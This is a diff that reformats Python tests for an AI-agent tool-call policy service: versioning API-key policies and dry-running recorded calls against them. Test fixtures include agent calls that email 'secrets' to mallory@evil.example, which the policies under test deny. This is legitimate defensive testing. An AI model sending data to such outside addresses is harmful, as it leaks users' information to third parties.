@@ -27,18 +27,34 @@ def sqrt(code: str) -> dict:
 
 def traffic(key):
     """Two sessions: mail to alice and mallory, a search, a delete; 3 of the 6 calls go to mallory."""
-    first = record_tool_calls(key, [("send_email", {"to": "alice@example.com", "body": "hi"}),
-                                    ("send_email", {"to": "mallory@evil.example", "body": "secrets"}),
-                                    ("search", {"q": "invoices"})])
-    second = record_tool_calls(key, [("send_email", {"to": "mallory@evil.example", "body": "more"}),
-                                     ("delete_file", {"path": "/tmp/x"}),
-                                     ("send_email", {"to": "mallory@evil.example", "body": "again"})])
+    first = record_tool_calls(
+        key,
+        [
+            ("send_email", {"to": "alice@example.com", "body": "hi"}),
+            ("send_email", {"to": "mallory@evil.example", "body": "secrets"}),
+            ("search", {"q": "invoices"}),
+        ],
+    )
+    second = record_tool_calls(
+        key,
+        [
+            ("send_email", {"to": "mallory@evil.example", "body": "more"}),
+            ("delete_file", {"path": "/tmp/x"}),
+            ("send_email", {"to": "mallory@evil.example", "body": "again"}),
+        ],
+    )
     return first, second
 
 
 def save(key, code, **kwargs):
-    return services.do_update_api_key_config(key=key, arch=key.arch, features=key.features,
-                                             policy={**key.policy, **sqrt(code)}, config=key.config, **kwargs)
+    return services.do_update_api_key_config(
+        key=key,
+        arch=key.arch,
+        features=key.features,
+        policy={**key.policy, **sqrt(code)},
+        config=key.config,
+        **kwargs,
+    )
 
 
 # ------------------------------------------------------------------------------------------- versions (services)
@@ -48,8 +64,9 @@ def test_creation_and_each_changing_save_make_a_version(user):
     key, _ = make_key(user, arch="single-llm")
     assert [(v.number, v.source, v.saved_by) for v in versions.versions_of(key)] == [(1, "created", user)]
     save(key, DENY_DELETE)
-    services.do_update_api_key_config(key=key, arch=key.arch, name="renamed", features=key.features,
-                                      policy=key.policy, config=key.config)  # no configuration change: no version
+    services.do_update_api_key_config(
+        key=key, arch=key.arch, name="renamed", features=key.features, policy=key.policy, config=key.config
+    )  # no configuration change: no version
     key.refresh_from_db()
     assert [v.number for v in versions.versions_of(key)] == [2, 1]
     assert key.current_version.number == 2 and key.current_version.policy == key.policy
@@ -114,10 +131,15 @@ def test_a_policy_denying_x_reports_exactly_the_recorded_x_calls(user):
     assert result.replayed == 6 and result.not_replayable == 0
     denied = result.newly_denied
     assert sorted((c.call.session_id, c.call.seq) for c in denied) == sorted(
-        [(first, 2), (second, 1), (second, 3)])
+        [(first, 2), (second, 1), (second, 3)]
+    )
     assert all(c.call.args["to"]["value"] == "mallory@evil.example" for c in denied)
-    assert all(c.verdict == "hard_denied" and c.rule["rule"].startswith('hard deny when to.value ==')
-               and c.rule["policy"] == "send_email" for c in denied)
+    assert all(
+        c.verdict == "hard_denied"
+        and c.rule["rule"].startswith("hard deny when to.value ==")
+        and c.rule["policy"] == "send_email"
+        for c in denied
+    )
     assert result.newly_allowed == []
     assert result.summary() == "would deny 3 of 6 recorded calls, in 2 sessions"
 
@@ -129,9 +151,12 @@ def test_a_looser_policy_reports_calls_denied_today_as_newly_allowed(user):
     result = do_dry_run(key=key, policy=sqrt(DENY_MALLORY))
     assert [(c.call.tool, c.verdict) for c in result.newly_allowed] == [("delete_file", "soft_allowed")]
     assert result.newly_allowed[0].rule["policy"] == "default_allow"
-    assert result.newly_allowed[0].call.rule["rule"] == "hard deny always;"  # what decided it when it was made
-    assert result.summary() == ("would deny 3 of 6 recorded calls, in 2 sessions; "
-                                "would allow 1 call denied today")
+    assert (
+        result.newly_allowed[0].call.rule["rule"] == "hard deny always;"
+    )  # what decided it when it was made
+    assert result.summary() == (
+        "would deny 3 of 6 recorded calls, in 2 sessions; would allow 1 call denied today"
+    )
 
 
 def test_the_same_policy_changes_nothing_and_nothing_is_saved(user):
@@ -153,7 +178,11 @@ def test_both_architectures_and_the_limit(user):
     record_tool_calls(single, [("send_email", {"to": "mallory@evil.example"})] * 4)
     calls = recorded_calls(dual)
     assert [c.dual_llm for c in calls] == [True]
-    assert do_dry_run(key=dual, policy=sqrt(DENY_MALLORY)).summary().startswith("would deny 1 of 1 recorded call,")
+    assert (
+        do_dry_run(key=dual, policy=sqrt(DENY_MALLORY))
+        .summary()
+        .startswith("would deny 1 of 1 recorded call,")
+    )
     assert do_dry_run(key=single, policy=sqrt(DENY_MALLORY), limit=2).replayed == 2
 
 
@@ -168,17 +197,42 @@ def test_calls_recorded_without_arguments_are_counted_not_guessed(user):
 def test_recorded_session_metadata_is_replayed():
     """A policy reading the session's tags sees the tags the call was made with."""
     code = 'tool "post" {\n    hard deny when "secret" in @session.tags;\n}\n'
-    tagged = RecordedCall(session_id="s", seq=1, dual_llm=False, tool="post", args={"text": {"value": "x"}},
-                          session_meta={"tags": ["secret"]}, control_meta=None, verdict="soft_allowed")
-    clean = RecordedCall(session_id="s", seq=2, dual_llm=False, tool="post", args={"text": {"value": "x"}},
-                         session_meta={"tags": []}, control_meta=None, verdict="soft_allowed")
+    tagged = RecordedCall(
+        session_id="s",
+        seq=1,
+        dual_llm=False,
+        tool="post",
+        args={"text": {"value": "x"}},
+        session_meta={"tags": ["secret"]},
+        control_meta=None,
+        verdict="soft_allowed",
+    )
+    clean = RecordedCall(
+        session_id="s",
+        seq=2,
+        dual_llm=False,
+        tool="post",
+        args={"text": {"value": "x"}},
+        session_meta={"tags": []},
+        control_meta=None,
+        verdict="soft_allowed",
+    )
     result = replay([tagged, clean], sqrt(code))
     assert [c.call.seq for c in result.newly_denied] == [1]
 
 
 def test_a_guardrail_block_is_not_undone_by_a_looser_policy():
-    blocked = RecordedCall(session_id="s", seq=1, dual_llm=False, tool="delete_file", args={},
-                           session_meta=None, control_meta=None, verdict="soft_allowed", blocked="URL blocked")
+    blocked = RecordedCall(
+        session_id="s",
+        seq=1,
+        dual_llm=False,
+        tool="delete_file",
+        args={},
+        session_meta=None,
+        control_meta=None,
+        verdict="soft_allowed",
+        blocked="URL blocked",
+    )
     result = replay([blocked], sqrt(""))
     assert result.changes == [] and result.without_session_meta == 1
 
@@ -189,9 +243,15 @@ def test_a_guardrail_block_is_not_undone_by_a_looser_policy():
 def test_dry_run_endpoint_returns_the_summary_and_rows(user_client, user):
     key, _ = make_key(user, arch="single-llm")
     first, _ = traffic(key)
-    r = user_client.post(reverse("apikeys:dry-run", args=[key.pk]),
-                         {"name": key.name, "arch": key.arch, "content_logging": key.content_logging,
-                          "policy_code": DENY_MALLORY})
+    r = user_client.post(
+        reverse("apikeys:dry-run", args=[key.pk]),
+        {
+            "name": key.name,
+            "arch": key.arch,
+            "content_logging": key.content_logging,
+            "policy_code": DENY_MALLORY,
+        },
+    )
     assert r.status_code == 200, r.content
     body = r.json()
     assert body["summary"] == "would deny 3 of 6 recorded calls, in 2 sessions"
@@ -242,9 +302,15 @@ def test_configure_page_lists_versions_diffs_and_reverts(user_client, user):
 
 def test_saving_the_configure_form_makes_a_version(user_client, user):
     key, _ = make_key(user, arch="single-llm")
-    r = user_client.post(reverse("apikeys:configure", args=[key.pk]),
-                         {"name": key.name, "arch": key.arch, "content_logging": key.content_logging,
-                          "policy_code": DENY_DELETE})
+    r = user_client.post(
+        reverse("apikeys:configure", args=[key.pk]),
+        {
+            "name": key.name,
+            "arch": key.arch,
+            "content_logging": key.content_logging,
+            "policy_code": DENY_DELETE,
+        },
+    )
     assert r.status_code == 302, r.content.decode()[:2000]
     key.refresh_from_db()
     version = key.current_version
